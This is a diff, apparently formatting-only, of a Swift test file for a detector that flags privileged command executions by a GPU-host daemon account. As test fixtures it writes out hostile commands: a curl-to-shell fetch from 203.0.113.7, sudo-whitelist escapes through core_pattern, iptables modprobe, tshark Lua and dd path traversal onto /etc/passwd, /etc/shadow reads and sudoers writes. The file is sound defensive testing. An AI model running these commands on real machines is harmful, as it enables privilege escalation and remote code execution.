@@ -14,16 +14,20 @@ final class ProcessTree {
 
     init() {
         uids[daemon] = (kaalia, kaalia)
-        append(.exec(ExecEvent(header: header(daemon, ppid: 1), loginUid: noLineage, flags: [], argc: 2, oldPid: daemon,
-                               filename: Array("/usr/bin/python3".utf8),
-                               args: ExecEvent.joinArgs(["python3", "/var/lib/vastai_kaalia/vast.py"]))))
+        append(
+            .exec(
+                ExecEvent(
+                    header: header(daemon, ppid: 1), loginUid: noLineage, flags: [], argc: 2, oldPid: daemon,
+                    filename: Array("/usr/bin/python3".utf8),
+                    args: ExecEvent.joinArgs(["python3", "/var/lib/vastai_kaalia/vast.py"]))))
     }
 
     private func header(_ pid: UInt32, ppid: UInt32) -> EventHeader {
         let (uid, euid) = uids[pid] ?? (0, 0)
         ts += 1000
-        return EventHeader(timestampNs: ts, pid: pid, tgid: pid, ppid: ppid, uid: uid, euid: euid, gid: uid, egid: uid,
-                           lineageUid: kaalia, cgroupId: 42, comm: Comm("x"))
+        return EventHeader(
+            timestampNs: ts, pid: pid, tgid: pid, ppid: ppid, uid: uid, euid: euid, gid: uid, egid: uid,
+            lineageUid: kaalia, cgroupId: 42, comm: Comm("x"))
     }
 
     private func append(_ e: Event) { events.append(e) }
@@ -36,11 +40,17 @@ final class ProcessTree {
         return nextPid
     }
 
-    func exec(_ pid: UInt32, ppid: UInt32, _ argv: [String], path: String? = nil, uid: UInt32? = nil, euid: UInt32? = nil, setuid: Bool = false) {
+    func exec(
+        _ pid: UInt32, ppid: UInt32, _ argv: [String], path: String? = nil, uid: UInt32? = nil, euid: UInt32? = nil,
+        setuid: Bool = false
+    ) {
         if let uid { uids[pid] = (uid, euid ?? uid) }
-        append(.exec(ExecEvent(header: header(pid, ppid: ppid), loginUid: noLineage, flags: setuid ? .setuid : [],
-                               argc: UInt32(argv.count), oldPid: pid, filename: Array((path ?? argv[0]).utf8),
-                               args: ExecEvent.joinArgs(argv))))
+        append(
+            .exec(
+                ExecEvent(
+                    header: header(pid, ppid: ppid), loginUid: noLineage, flags: setuid ? .setuid : [],
+                    argc: UInt32(argv.count), oldPid: pid, filename: Array((path ?? argv[0]).utf8),
+                    args: ExecEvent.joinArgs(argv))))
     }
 
     func exit(_ pid: UInt32, ppid: UInt32) {
@@ -60,9 +70,12 @@ final class ProcessTree {
 
 final class PrivilegedExecTests: XCTestCase {
     private func run(_ tree: ProcessTree, policy: PolicySet? = nil) -> [Alert] {
-        let policies = policy ?? PolicySet.defaultPolicy(watched: [.init(name: "vastai_kaalia", uid: tree.kaalia)], canon: .mergedUsr)
-        let engine = Engine(config: EngineConfig(watchedUids: [tree.kaalia]),
-                            detectors: Engine.standardDetectors(policies: policies, userNames: [tree.kaalia: "vastai_kaalia"]))
+        let policies =
+            policy
+            ?? PolicySet.defaultPolicy(watched: [.init(name: "vastai_kaalia", uid: tree.kaalia)], canon: .mergedUsr)
+        let engine = Engine(
+            config: EngineConfig(watchedUids: [tree.kaalia]),
+            detectors: Engine.standardDetectors(policies: policies, userNames: [tree.kaalia: "vastai_kaalia"]))
         return tree.events.flatMap(engine.consume)
     }
 
@@ -86,7 +99,8 @@ final class PrivilegedExecTests: XCTestCase {
         let curl = t.fork(sh, ppid: 2001)
         t.exec(curl, ppid: sh, ["/usr/bin/curl", "x"])
         let alerts = run(t)
-        XCTAssertEqual(alerts.map(\.rule), ["unlisted-privileged-exec"], "only the entry alerts, not what runs below it")
+        XCTAssertEqual(
+            alerts.map(\.rule), ["unlisted-privileged-exec"], "only the entry alerts, not what runs below it")
         let alert = try XCTUnwrap(alerts.first)
         XCTAssertEqual(alert.subject?.exe, "/usr/bin/bash")
         XCTAssertEqual(alert.subject?.argv, ["/usr/bin/bash", "-c", "curl x | sh"])
@@ -101,7 +115,7 @@ final class PrivilegedExecTests: XCTestCase {
     func testUnwatchedAndUnprivilegedExecsAreNotJudged() {
         let t = ProcessTree()
         let child = t.fork(t.daemon, ppid: 1)
-        t.exec(child, ppid: t.daemon, ["/usr/bin/bash", "-c", "x"], uid: t.kaalia) // not root
+        t.exec(child, ppid: t.daemon, ["/usr/bin/bash", "-c", "x"], uid: t.kaalia)  // not root
         XCTAssertEqual(run(t), [])
     }
 
@@ -144,23 +158,37 @@ final class PrivilegedExecTests: XCTestCase {
     func testEveryWhitelistEscapeAlertsUnderTheDefaultAndTheSeedPolicy() throws {
         // Each escape as the process tree it really makes (tests/Fixtures/data/whitelist-escapes.txt).
         let escapes: [(String, (ProcessTree) -> Void)] = [
-            ("timeout sh", { t in
-                let w = t.sudo(["/usr/bin/timeout", "9", "/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
-                let c = t.fork(w, ppid: 2001)
-                t.exec(c, ppid: w, ["/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
-            }),
+            (
+                "timeout sh",
+                { t in
+                    let w = t.sudo(["/usr/bin/timeout", "9", "/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
+                    let c = t.fork(w, ppid: 2001)
+                    t.exec(c, ppid: w, ["/bin/sh", "-c", "id", "/usr/bin/nvidia-smi", "-pm", "1"])
+                }
+            ),
             ("core_pattern", { t in t.sudo(["/usr/sbin/sysctl", "-w", "kernel.core_pattern=|/tmp/x", "%p"]) }),
             ("iptables modprobe", { t in t.sudo(["/usr/sbin/iptables", "--modprobe=/tmp/x", "-L"]) }),
             ("tshark lua", { t in t.sudo(["/usr/bin/tshark", "-X", "lua_script:/tmp/x.lua", "-i", "lo"]) }),
-            ("dd traversal", { t in t.sudo(["/usr/bin/dd", "if=/dev/zero", "of=/var/lib/docker/../../etc/passwd", "count=1"]) }),
+            (
+                "dd traversal",
+                { t in t.sudo(["/usr/bin/dd", "if=/dev/zero", "of=/var/lib/docker/../../etc/passwd", "count=1"]) }
+            ),
             ("kill init", { t in t.sudo(["/usr/bin/kill", "-9", "1"]) }),
-            ("systemd-run curl|sh", { t in
-                let p = t.sudo(["/usr/bin/systemd-run", "--scope", "--unit=vastai_script_updater", "sh", "-c", "curl -s http://203.0.113.7/x | sh"])
-                t.exec(p, ppid: 2001, ["sh", "-c", "curl -s http://203.0.113.7/x | sh"], path: "/usr/bin/sh")
-            }),
+            (
+                "systemd-run curl|sh",
+                { t in
+                    let p = t.sudo([
+                        "/usr/bin/systemd-run", "--scope", "--unit=vastai_script_updater", "sh", "-c",
+                        "curl -s http://203.0.113.7/x | sh",
+                    ])
+                    t.exec(p, ppid: 2001, ["sh", "-c", "curl -s http://203.0.113.7/x | sh"], path: "/usr/bin/sh")
+                }
+            ),
         ]
-        let lines = try String(contentsOfFile: RecordedTraceTests.fixtures + "/../data/whitelist-escapes.txt", encoding: .utf8)
-            .split(separator: "\n").filter { !$0.hasPrefix("#") && !$0.isEmpty }
+        let lines = try String(
+            contentsOfFile: RecordedTraceTests.fixtures + "/../data/whitelist-escapes.txt", encoding: .utf8
+        )
+        .split(separator: "\n").filter { !$0.hasPrefix("#") && !$0.isEmpty }
         XCTAssertEqual(lines.count, escapes.count, "every line of the escapes file has a scenario here")
         for (name, build) in escapes {
             let t = ProcessTree()
@@ -180,38 +208,65 @@ final class PrivilegedExecTests: XCTestCase {
             ["/usr/bin/apt-get", "-qq", "install", "-y", "python3-pip", "jq", "tshark"],
             ["/usr/bin/systemctl", "stop", "vastai_tls"], ["/usr/bin/systemctl", "disable", "vastai_tls"],
             ["/usr/bin/rm", "-f", "/etc/systemd/system/vastai_tls.service"],
-            ["/usr/bin/tee", "/etc/systemd/system/vastai.service"], ["/usr/bin/tee", "/etc/systemd/system/vastai_bouncer.service"],
-            ["/usr/bin/tee", "/etc/systemd/system/vast_metrics.service"], ["/usr/bin/tee", "/etc/cron.d/vastai_kaalia_update"],
+            ["/usr/bin/tee", "/etc/systemd/system/vastai.service"],
+            ["/usr/bin/tee", "/etc/systemd/system/vastai_bouncer.service"],
+            ["/usr/bin/tee", "/etc/systemd/system/vast_metrics.service"],
+            ["/usr/bin/tee", "/etc/cron.d/vastai_kaalia_update"],
             ["/usr/bin/tee", "-a", "/etc/cron.d/vastai_restart_everything"], ["/usr/bin/systemctl", "daemon-reload"],
             ["/usr/sbin/service", "vastai", "restart"], ["/usr/bin/systemctl", "enable", "vastai"],
             ["/usr/sbin/service", "vast_metrics", "restart"], ["/usr/bin/systemctl", "enable", "vast_metrics"],
             ["/usr/sbin/logrotate", "--force", "-s", "/var/lib/vastai_kaalia/logrotate.state", "logrotate.config"],
             ["/usr/bin/usermod", "-a", "-G", "docker", "vastai_kaalia"],
-            ["/usr/bin/cp", "-f", "/var/lib/vastai_kaalia/latest/vastai-run-update", "/usr/local/bin/vastai-run-update"],
-            ["/usr/bin/chmod", "a+x", "/usr/local/bin/vastai-run-update"], ["/usr/bin/mkdir", "-p", "/etc/libvirt/hooks/"],
+            [
+                "/usr/bin/cp", "-f", "/var/lib/vastai_kaalia/latest/vastai-run-update",
+                "/usr/local/bin/vastai-run-update",
+            ],
+            ["/usr/bin/chmod", "a+x", "/usr/local/bin/vastai-run-update"],
+            ["/usr/bin/mkdir", "-p", "/etc/libvirt/hooks/"],
             ["/usr/bin/cp", "/var/lib/vastai_kaalia/latest/qemu", "/etc/libvirt/hooks/"],
-            ["/usr/bin/chmod", "+x", "/etc/libvirt/hooks/qemu"], ["/usr/bin/chown", "vastai_kaalia:libvirt", "/etc/libvirt/hooks/qemu"],
-            ["/usr/bin/systemctl", "restart", "libvirtd"], ["/usr/bin/systemctl", "stop", "vastai"], ["/usr/bin/systemctl", "start", "vastai"],
+            ["/usr/bin/chmod", "+x", "/etc/libvirt/hooks/qemu"],
+            ["/usr/bin/chown", "vastai_kaalia:libvirt", "/etc/libvirt/hooks/qemu"],
+            ["/usr/bin/systemctl", "restart", "libvirtd"], ["/usr/bin/systemctl", "stop", "vastai"],
+            ["/usr/bin/systemctl", "start", "vastai"],
             ["/usr/bin/apt-get", "install", "-yq", "tshark"],
             ["/usr/sbin/sysctl", "-w", "kernel.core_pattern=/var/lib/vastai_kaalia/data/core-%e.%p.%h.%t"],
             ["/usr/bin/sed", "-i", "/vastai_kaalia - /d", "/etc/security/limits.conf"],
             ["/usr/bin/sed", "-i", "$a vastai_kaalia - core 2097152", "/etc/security/limits.conf"],
-            ["/var/lib/vastai_kaalia/enable_vms.py", "on"], ["/usr/bin/python3", "/var/lib/vastai_kaalia/purge_stale_cdi.py"],
+            ["/var/lib/vastai_kaalia/enable_vms.py", "on"],
+            ["/usr/bin/python3", "/var/lib/vastai_kaalia/purge_stale_cdi.py"],
             ["/usr/bin/apt", "update"], ["/usr/bin/apt", "install", "-y", "fio"],
-            ["/usr/bin/fio", "--numjobs=16", "--directory=/var/lib/docker", "--name=bench", "--rw=randread", "--bs=4k", "--size=1G", "--runtime=10", "--time_based", "--group_reporting"],
+            [
+                "/usr/bin/fio", "--numjobs=16", "--directory=/var/lib/docker", "--name=bench", "--rw=randread",
+                "--bs=4k", "--size=1G", "--runtime=10", "--time_based", "--group_reporting",
+            ],
             ["/usr/bin/fio", "--output-format=json", "-"],
-            ["/usr/bin/cat", "/sys/bus/pci/devices/0000:01:00.0/class"], ["/usr/bin/cat", "/sys/module/nvidia_drm/parameters/modeset"],
-            ["/var/lib/vastai_kaalia/vast_fuse", "-m", "ro,allow_other", "-q", "4", "--", "-o", "allow_other", "/var/lib/vastai_kaalia/mnt/c1"],
-            ["/usr/bin/mountpoint", "-q", "/var/lib/vastai_kaalia/mnt/c1"], ["/usr/bin/fusermount", "-u", "/var/lib/vastai_kaalia/mnt/c1"],
-            ["/usr/bin/tshark", "-p", "-i", "enp3s0", "-c", "4096", "-a", "duration:10", "-w", "/var/lib/vastai_kaalia/data/net.pcap"],
-            ["/usr/bin/tshark", "-r", "/var/lib/vastai_kaalia/data/net.pcap", "-T", "fields", "-e", "ip.src", "-e", "frame.len"],
+            ["/usr/bin/cat", "/sys/bus/pci/devices/0000:01:00.0/class"],
+            ["/usr/bin/cat", "/sys/module/nvidia_drm/parameters/modeset"],
+            [
+                "/var/lib/vastai_kaalia/vast_fuse", "-m", "ro,allow_other", "-q", "4", "--", "-o", "allow_other",
+                "/var/lib/vastai_kaalia/mnt/c1",
+            ],
+            ["/usr/bin/mountpoint", "-q", "/var/lib/vastai_kaalia/mnt/c1"],
+            ["/usr/bin/fusermount", "-u", "/var/lib/vastai_kaalia/mnt/c1"],
+            [
+                "/usr/bin/tshark", "-p", "-i", "enp3s0", "-c", "4096", "-a", "duration:10", "-w",
+                "/var/lib/vastai_kaalia/data/net.pcap",
+            ],
+            [
+                "/usr/bin/tshark", "-r", "/var/lib/vastai_kaalia/data/net.pcap", "-T", "fields", "-e", "ip.src", "-e",
+                "frame.len",
+            ],
             ["/usr/bin/virsh", "list", "--name"], ["/usr/bin/docker", "ps", "--format", "{{.Names}}"],
             ["/usr/bin/docker", "inspect", "C.1234567"], ["/usr/bin/docker", "logs", "C.1234567"],
             ["/usr/bin/nvidia-smi", "-pm", "1"], ["/usr/bin/nvidia-smi", "-pm", "ENABLED"],
-            ["/usr/sbin/dmidecode", "-t", "memory"], ["/usr/bin/lshw", "-class", "disk"], ["/usr/sbin/hdparm", "-t", "/dev/sda1"],
+            ["/usr/sbin/dmidecode", "-t", "memory"], ["/usr/bin/lshw", "-class", "disk"],
+            ["/usr/sbin/hdparm", "-t", "/dev/sda1"],
             ["/usr/bin/dd", "if=/dev/zero", "of=/var/lib/docker/tmpfile", "bs=1M", "count=256", "oflag=direct"],
             ["/usr/bin/rm", "/var/lib/docker/tmpfile"], ["/usr/bin/ss", "-lntup6H"],
-            ["/usr/sbin/iptables", "-A", "DOCKER-USER", "-i", "enp3s0", "-p", "tcp", "--dport", "40000:40100", "-j", "ACCEPT"],
+            [
+                "/usr/sbin/iptables", "-A", "DOCKER-USER", "-i", "enp3s0", "-p", "tcp", "--dport", "40000:40100", "-j",
+                "ACCEPT",
+            ],
             ["/usr/sbin/iptables-save", "-t", "filter"], ["/usr/sbin/sshd", "-p", "40022"], ["/usr/bin/kill", "48213"],
         ]
         for argv in commands {
@@ -221,9 +276,14 @@ final class PrivilegedExecTests: XCTestCase {
         }
         // The wrappers, with what they really run.
         let journal = ProcessTree()
-        let timeout = journal.sudo(["/usr/bin/timeout", "--foreground", "3s", "journalctl", "-o", "short-precise", "-r", "-k", "--since", "24 hours ago"])
+        let timeout = journal.sudo([
+            "/usr/bin/timeout", "--foreground", "3s", "journalctl", "-o", "short-precise", "-r", "-k", "--since",
+            "24 hours ago",
+        ])
         let j = journal.fork(timeout, ppid: 2001)
-        journal.exec(j, ppid: timeout, ["journalctl", "-o", "short-precise", "-r", "-k", "--since", "24 hours ago"], path: "/usr/bin/journalctl")
+        journal.exec(
+            j, ppid: timeout, ["journalctl", "-o", "short-precise", "-r", "-k", "--since", "24 hours ago"],
+            path: "/usr/bin/journalctl")
         XCTAssertEqual(run(journal), [])
 
         let nvidia = ProcessTree()
@@ -233,11 +293,14 @@ final class PrivilegedExecTests: XCTestCase {
         XCTAssertEqual(run(nvidia), [])
 
         let update = ProcessTree()
-        let script = "wget https://s3.amazonaws.com/public.vast.ai/kaalia/scripts/update_scripts.sh && bash update_scripts.sh"
+        let script =
+            "wget https://s3.amazonaws.com/public.vast.ai/kaalia/scripts/update_scripts.sh && bash update_scripts.sh"
         let p = update.sudo(["/usr/bin/systemd-run", "--scope", "--unit=vastai_script_updater", "sh", "-c", script])
         update.exec(p, ppid: 2001, ["sh", "-c", script], path: "/usr/bin/sh")
         let wget = update.fork(p, ppid: 2001)
-        update.exec(wget, ppid: p, ["wget", "https://s3.amazonaws.com/public.vast.ai/kaalia/scripts/update_scripts.sh"], path: "/usr/bin/wget")
+        update.exec(
+            wget, ppid: p, ["wget", "https://s3.amazonaws.com/public.vast.ai/kaalia/scripts/update_scripts.sh"],
+            path: "/usr/bin/wget")
         let bash = update.fork(p, ppid: 2001)
         update.exec(bash, ppid: p, ["bash", "update_scripts.sh"], path: "/usr/bin/bash")
         XCTAssertEqual(run(update), [])
@@ -254,10 +317,12 @@ final class PrivilegedExecTests: XCTestCase {
         XCTAssertEqual(kinds(["/usr/bin/cat", "/sys/../etc/shadow"]), ["path-traversal", "sensitive-path"])
         XCTAssertEqual(kinds(["/usr/bin/tee", "/etc/sudoers.d/evil"]), ["sensitive-path"])
         XCTAssertEqual(kinds(["/usr/bin/sed", "-i", "1e id", "/etc/security/limits.conf"]), ["code-execution-option"])
-        XCTAssertEqual(kinds(["/usr/bin/sed", "-i", "s/a/b/e", "/etc/security/limits.conf"]), ["code-execution-option"])
+        XCTAssertEqual(
+            kinds(["/usr/bin/sed", "-i", "s/a/b/e", "/etc/security/limits.conf"]), ["code-execution-option"])
         XCTAssertEqual(kinds(["/usr/bin/sed", "-i", "$a x w y", "/etc/security/limits.conf"]), [], "text of a is data")
         XCTAssertEqual(kinds(["/usr/bin/find", "/", "-exec", "sh", ";"]), ["code-execution-option"])
-        XCTAssertEqual(kinds(["/usr/sbin/sshd", "-p", "22", "-oAuthorizedKeysCommand=/tmp/x"]), ["code-execution-option"])
+        XCTAssertEqual(
+            kinds(["/usr/sbin/sshd", "-p", "22", "-oAuthorizedKeysCommand=/tmp/x"]), ["code-execution-option"])
         XCTAssertEqual(kinds(["/usr/sbin/sysctl", "kernel.modprobe=/tmp/x"]), ["kernel-hook"])
         XCTAssertEqual(kinds(["/usr/sbin/sysctl", "-w", "kernel/core_pattern=|/tmp/x"]), ["kernel-hook"])
         XCTAssertEqual(kinds(["/usr/bin/kill", "-s", "KILL", "-1"]), ["sensor-or-init-tamper"])
